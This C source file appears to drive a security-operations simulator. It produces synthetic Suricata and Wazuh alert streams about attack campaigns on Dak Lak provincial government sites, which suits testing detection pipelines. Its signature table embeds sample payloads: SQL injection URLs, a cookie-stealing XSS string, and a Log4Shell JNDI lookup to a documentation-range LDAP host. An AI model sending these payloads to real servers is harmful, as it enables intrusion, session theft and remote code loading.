/* ioc-sim-soc.c — the SOC's sensors: Suricata EVE and Wazuh alert batches
 *
 * Two of three batches are Suricata EVE lines (POST /api/v1/ingest/eve),
 * one of three Wazuh alerts (POST /api/v1/ingest/wazuh), newline-delimited
 * as the sensors write them. Most lines belong to an ongoing campaign — one
 * source hammering one of the province's sites with one signature for a
 * while (a scan, an SQL injection run, a flood, a brute force) — so that
 * iocd folds them into one alert with a count; the rest are one-offs.
 * Addresses of attackers are from the documentation ranges (RFC 5737);
 * targets are the province's servers (10.10.x.x) and sites such as
 * congan.daklak.gov.vn, the most attacked ones of the province's report.
 */
#include "ioc-sim.h"

#include <string.h>

static const char *const sites[] = {
  "congan.daklak.gov.vn", "daklak.gov.vn", "dichvucong.daklak.gov.vn", "ldld.daklak.gov.vn",
  "cumgar.daklak.gov.vn", "eakar.daklak.gov.vn", "lak.daklak.gov.vn", "easup.daklak.gov.vn",
  "sotttt.daklak.gov.vn", "skhdt.daklak.gov.vn", "buonmathuot.daklak.gov.vn", "syt.daklak.gov.vn",
};

typedef struct {
  guint       sid;
  const char *signature;
  const char *category;
  int         severity;   /* Suricata: 1 = high … 3 = low */
  const char *url;        /* NULL: not web traffic */
  int         port;
  gboolean    outbound;   /* a host of ours calling out (C2) */
} Signature;

static const Signature signatures[] = {
  { 2006446, "ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT", "Web Application Attack", 1,
    "/index.php?id=1%20UNION%20SELECT%20username,password%20FROM%20users--", 443, FALSE },
  { 2009714, "ET WEB_SERVER Script tag in URI Possible Cross Site Scripting Attempt", "Web Application Attack", 1,
    "/tim-kiem?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", 443, FALSE },
  { 2009358, "ET SCAN Nmap Scripting Engine User-Agent Detected (Nmap Scripting Engine)", "Web Application Attack", 1,
    "/nmaplowercheck1700000000", 80, FALSE },
  { 2034647, "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)", "Attempted Administrator Privilege Gain", 1,
    "/?x=${jndi:ldap://198.51.100.23:1389/a}", 443, FALSE },
  { 2022028, "ET WEB_SERVER Possible CVE-2014-6271 Attempt in Headers", "Attempted Administrator Privilege Gain", 1,
    "/cgi-bin/status", 80, FALSE },
  { 2011768, "ET WEB_SERVER PHP tags in HTTP POST", "Web Application Attack", 2,
    "/wp-admin/admin-ajax.php", 443, FALSE },
  { 2012049, "ET DOS Inbound Low Orbit Ion Cannon LOIC DDOS Tool desu string", "Attempted Denial of Service", 2,
    "/?msg=desudesudesu", 80, FALSE },
  { 2100498, "GPL ATTACK_RESPONSE id check returned root", "Potentially Bad Traffic", 2, NULL, 80, FALSE },
  { 2031412, "ET MALWARE FormBook CnC Checkin (GET)", "A Network Trojan was detected", 1,
    "/n8ba/?x=AbCdEf0123", 80, TRUE },
  { 2027759, "ET MALWARE Win32/Emotet CnC Activity (POST) M10", "A Network Trojan was detected", 1,
    "/wp-content/plugins/x/", 8080, TRUE },
  { 2018959, "ET POLICY PE EXE or DLL Windows file download HTTP", "Potential Corporate Privacy Violation", 3,
    "/download/setup.exe", 80, TRUE },
};

typedef struct {
  guint       rule_id;
  int         level;
  const char *description;
  const char *groups[5];
  gboolean    web;
} WazuhRule;

static const WazuhRule rules[] = {
  { 5710, 5, "sshd: Attempt to login using a non-existent user", { "syslog", "sshd", "invalid_login", "authentication_failed" }, FALSE },
  { 5712, 10, "sshd: brute force trying to get access to the system. Non existent user.", { "syslog", "sshd", "authentication_failures" }, FALSE },
  { 31103, 7, "SQL injection attempt.", { "web", "accesslog", "attack", "sql_injection" }, TRUE },
  { 31151, 10, "Multiple web server 400 error codes from same source ip.", { "web", "accesslog", "web_scan", "recon" }, TRUE },
  { 550, 7, "Integrity checksum changed.", { "ossec", "syscheck", "syscheck_entry_modified", "syscheck_file" }, FALSE },
  { 510, 7, "Host-based anomaly detection event (rootcheck).", { "ossec", "rootcheck" }, FALSE },
  { 87105, 12, "VirusTotal: Alert - /var/www/html/upload/shell.php - 38 engines detected this file", { "virustotal" }, FALSE },
  { 23506, 10, "CVE-2021-44228 affects org.apache.logging.log4j:log4j-core", { "vulnerability-detector", "gdpr_IV_35.7.d" }, FALSE },
  { 60122, 5, "Logon Failure - Unknown user or bad password", { "windows", "win_security", "authentication_failed" }, FALSE },
};

static const struct { const char *id, *name, *ip; } agents[] = {
  { "003", "srv-dvc-web01", "10.10.20.11" }, { "004", "srv-dvc-web02", "10.10.20.12" },
  { "007", "srv-congan-portal", "10.10.30.5" }, { "011", "srv-igate-app02", "10.10.20.31" },
  { "015", "srv-mail-01", "10.10.40.2" }, { "102", "pc-sotnmt-031", "10.20.7.31" },
  { "214", "pc-ubnd-bmt-112", "10.30.1.112" }, { "230", "pc-sogtvt-044", "10.20.9.44" },
};

static const char *const user_agents[] = {
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
  "sqlmap/1.7.2#stable (https://sqlmap.org)",
  "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
  "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
  "python-requests/2.31.0",
};

/* An ongoing attack: one source, one target, one signature or rule. */
typedef struct {
  gboolean wazuh;
  guint    index;        /* in signatures[] or rules[] */
  char    *src_ip;
  guint    site;         /* in sites[] */
  guint    agent;        /* in agents[] */
  guint    lines_left;
} Campaign;

typedef struct {
  GPtrArray *campaigns;  /* Campaign* */
  guint      batch;
} State;

static void
campaign_free (gpointer data)
{
  Campaign *c = data;

  g_free (c->src_ip);
  g_free (c);
}

static void
state_free (gpointer data)
{
  State *s = data;

  g_ptr_array_unref (s->campaigns);
  g_free (s);
}

static char *
attacker_ip (GRand *r)
{
  static const char *const nets[] = { "203.0.113", "198.51.100", "192.0.2" };
  return g_strdup_printf ("%s.%d", IOC_SIM_PICK (r, nets), g_rand_int_range (r, 2, 254));
}

static Campaign *
new_campaign (GRand    *r,
              gboolean  wazuh)
{
  Campaign *c = g_new0 (Campaign, 1);

  c->wazuh = wazuh;
  c->index = (guint) g_rand_int_range (r, 0, wazuh ? (gint32) G_N_ELEMENTS (rules) : (gint32) G_N_ELEMENTS (signatures));
  c->src_ip = attacker_ip (r);
  c->site = (guint) g_rand_int_range (r, 0, G_N_ELEMENTS (sites));
  c->agent = (guint) g_rand_int_range (r, 0, G_N_ELEMENTS (agents));
  c->lines_left = (guint) g_rand_int_range (r, 10, 120);
  return c;
}

static void
eve_line (GString  *out,
          GRand    *r,
          Campaign *c)
{
  const Signature *sig = &signatures[c->index];
  g_autofree char *ts = ioc_sim_now_iso (TRUE, TRUE);
  g_autoptr(JsonBuilder) b = json_builder_new ();
  g_autoptr(JsonNode) root = NULL;
  g_autofree char *text = NULL;
  g_autofree char *server = g_strdup_printf ("10.10.20.%u", 10 + c->site);
  const char *src = sig->outbound ? server : c->src_ip;
  const char *dst = sig->outbound ? c->src_ip : server;

  json_builder_begin_object (b);
  json_builder_set_member_name (b, "timestamp");
  json_builder_add_string_value (b, ts);
  json_builder_set_member_name (b, "flow_id");
  json_builder_add_int_value (b, (gint64) g_rand_int (r) * 65536 + g_rand_int_range (r, 0, 65536));
  json_builder_set_member_name (b, "in_iface");
  json_builder_add_string_value (b, "ens192");
  json_builder_set_member_name (b, "event_type");
  json_builder_add_string_value (b, "alert");
  json_builder_set_member_name (b, "src_ip");
  json_builder_add_string_value (b, src);
  json_builder_set_member_name (b, "src_port");
  json_builder_add_int_value (b, g_rand_int_range (r, 1024, 65535));
  json_builder_set_member_name (b, "dest_ip");
  json_builder_add_string_value (b, dst);
  json_builder_set_member_name (b, "dest_port");
  json_builder_add_int_value (b, sig->port);
  json_builder_set_member_name (b, "proto");
  json_builder_add_string_value (b, "TCP");
  json_builder_set_member_name (b, "alert");
  json_builder_begin_object (b);
  json_builder_set_member_name (b, "action");
  json_builder_add_string_value (b, "allowed");
  json_builder_set_member_name (b, "gid");
  json_builder_add_int_value (b, 1);
  json_builder_set_member_name (b, "signature_id");
  json_builder_add_int_value (b, sig->sid);
  json_builder_set_member_name (b, "rev");
  json_builder_add_int_value (b, 3);
  json_builder_set_member_name (b, "signature");
  json_builder_add_string_value (b, sig->signature);
  json_builder_set_member_name (b, "category");
  json_builder_add_string_value (b, sig->category);
  json_builder_set_member_name (b, "severity");
  json_builder_add_int_value (b, sig->severity);
  json_builder_end_object (b);
  if (sig->url != NULL)
    {
      json_builder_set_member_name (b, "http");
      json_builder_begin_object (b);
      json_builder_set_member_name (b, "hostname");
      json_builder_add_string_value (b, sig->outbound ? "update-check.example.net" : sites[c->site]);
      json_builder_set_member_name (b, "url");
      json_builder_add_string_value (b, sig->url);
      json_builder_set_member_name (b, "http_user_agent");
      json_builder_add_string_value (b, IOC_SIM_PICK (r, user_agents));
      json_builder_set_member_name (b, "http_method");
      json_builder_add_string_value (b, g_str_has_suffix (sig->signature, "(POST) M10") ||
                                        strstr (sig->signature, "POST") != NULL ? "POST" : "GET");
      json_builder_set_member_name (b, "protocol");
      json_builder_add_string_value (b, "HTTP/1.1");
      json_builder_set_member_name (b, "status");
      json_builder_add_int_value (b, g_rand_boolean (r) ? 403 : 200);
      json_builder_set_member_name (b, "length");
      json_builder_add_int_value (b, g_rand_int_range (r, 0, 20000));
      json_builder_end_object (b);
    }
  json_builder_end_object (b);
  root = json_builder_get_root (b);
  text = json_to_string (root, FALSE);
  g_string_append (out, text);
  g_string_append_c (out, '\n');
}

static void
wazuh_line (GString  *out,
            GRand    *r,
            Campaign *c)
{
  const WazuhRule *rule = &rules[c->index];
  g_autofree char *ts = ioc_sim_now_iso (TRUE, TRUE);
  g_autoptr(JsonBuilder) b = json_builder_new ();
  g_autoptr(JsonNode) root = NULL;
  g_autofree char *text = NULL;
  g_autofree char *id = g_strdup_printf ("%" G_GINT64_FORMAT ".%u", g_get_real_time () / G_USEC_PER_SEC,
                                         g_rand_int_range (r, 1000000, 9999999));

  json_builder_begin_object (b);
  json_builder_set_member_name (b, "timestamp");
  json_builder_add_string_value (b, ts);
  json_builder_set_member_name (b, "rule");
  json_builder_begin_object (b);
  json_builder_set_member_name (b, "level");
  json_builder_add_int_value (b, rule->level);
  json_builder_set_member_name (b, "description");
  json_builder_add_string_value (b, rule->description);
  json_builder_set_member_name (b, "id");
  {
    g_autofree char *rid = g_strdup_printf ("%u", rule->rule_id);
    json_builder_add_string_value (b, rid);
  }
  json_builder_set_member_name (b, "groups");
  json_builder_begin_array (b);
  for (guint i = 0; i < G_N_ELEMENTS (rule->groups) && rule->groups[i] != NULL; i++)
    json_builder_add_string_value (b, rule->groups[i]);
  json_builder_end_array (b);
  json_builder_end_object (b);
  json_builder_set_member_name (b, "agent");
  json_builder_begin_object (b);
  json_builder_set_member_name (b, "id");
  json_builder_add_string_value (b, agents[c->agent].id);
  json_builder_set_member_name (b, "name");
  json_builder_add_string_value (b, agents[c->agent].name);
  json_builder_set_member_name (b, "ip");
  json_builder_add_string_value (b, agents[c->agent].ip);
  json_builder_end_object (b);
  json_builder_set_member_name (b, "manager");
  json_builder_begin_object (b);
  json_builder_set_member_name (b, "name");
  json_builder_add_string_value (b, "wazuh-soc-daklak");
  json_builder_end_object (b);
  json_builder_set_member_name (b, "id");
  json_builder_add_string_value (b, id);
  json_builder_set_member_name (b, "data");
  json_builder_begin_object (b);
  json_builder_set_member_name (b, "srcip");
  json_builder_add_string_value (b, c->src_ip);
  if (rule->web)
    {
      json_builder_set_member_name (b, "hostname");
      json_builder_add_string_value (b, sites[c->site]);
      json_builder_set_member_name (b, "url");
      json_builder_add_string_value (b, "/index.php?option=com_content&id=1'%20OR%20'1'='1");
      json_builder_set_member_name (b, "id");
      json_builder_add_string_value (b, "400");
    }
  else if (rule->rule_id == 5710 || rule->rule_id == 5712)
    {
      json_builder_set_member_name (b, "srcuser");
      json_builder_add_string_value (b, g_rand_boolean (r) ? "admin" : "oracle");
    }
  json_builder_end_object (b);
  json_builder_set_member_name (b, "location");
  json_builder_add_string_value (b, rule->web ? "/var/log/nginx/access.log" : "/var/log/auth.log");
  json_builder_end_object (b);
  root = json_builder_get_root (b);
  text = json_to_string (root, FALSE);
  g_string_append (out, text);
  g_string_append_c (out, '\n');
}

static gboolean
soc_prepare (IocSim        *sim,
             IocSimDriver  *d,
             gboolean      *enabled,
             GError       **error)
{
  State *s;

  d->per_hour = sim->opt.soc_batches_per_hour;
  if (d->per_hour <= 0)
    {
      *enabled = FALSE;
      return TRUE;
    }
  s = g_new0 (State, 1);
  s->campaigns = g_ptr_array_new_with_free_func (campaign_free);
  d->state = s;
  d->state_free = state_free;
  return TRUE;
}

static void
soc_fire (IocSim       *sim,
          IocSimDriver *d)
{
  State *s = d->state;
  GRand *r = d->rand;
  gboolean wazuh = s->batch++ % 3 == 2;
  g_autoptr(GString) batch = g_string_new (NULL);
  guint lines = sim->opt.soc_batch_lines;

  for (guint i = 0; i < lines; i++)
    {
      Campaign *c = NULL;
      g_autoptr(GPtrArray) mine = g_ptr_array_new ();

      for (guint k = 0; k < s->campaigns->len; k++)
        if (((Campaign *) g_ptr_array_index (s->campaigns, k))->wazuh == wazuh)
          g_ptr_array_add (mine, g_ptr_array_index (s->campaigns, k));
      /* Four in five lines come from an ongoing campaign (up to six at once). */
      if (mine->len > 0 && g_rand_double (r) < 0.8)
        c = g_ptr_array_index (mine, g_rand_int_range (r, 0, (gint32) mine->len));
      else if (s->campaigns->len < 6)
        {
          c = new_campaign (r, wazuh);
          g_ptr_array_add (s->campaigns, c);
        }
      if (c != NULL)
        {
          if (wazuh)
            wazuh_line (batch, r, c);
          else
            eve_line (batch, r, c);
          if (--c->lines_left == 0)
            g_ptr_array_remove (s->campaigns, c);
        }
      else
        {
          /* A one-off. */
          Campaign *once = new_campaign (r, wazuh);
          if (wazuh)
            wazuh_line (batch, r, once);
          else
            eve_line (batch, r, once);
          campaign_free (once);
        }
    }
  {
    gsize len = batch->len;
    g_autoptr(GBytes) body = g_bytes_new_take (g_string_free (g_steal_pointer (&batch), FALSE), len);
    ioc_sim_post (sim, d, wazuh ? "/api/v1/ingest/wazuh" : "/api/v1/ingest/eve", "application/x-ndjson",
                  body, lines, NULL, NULL);
  }
}

IocSimDriver ioc_sim_driver_soc = {
  .name = "soc",
  .prepare = soc_prepare,
  .fire = soc_fire,
};
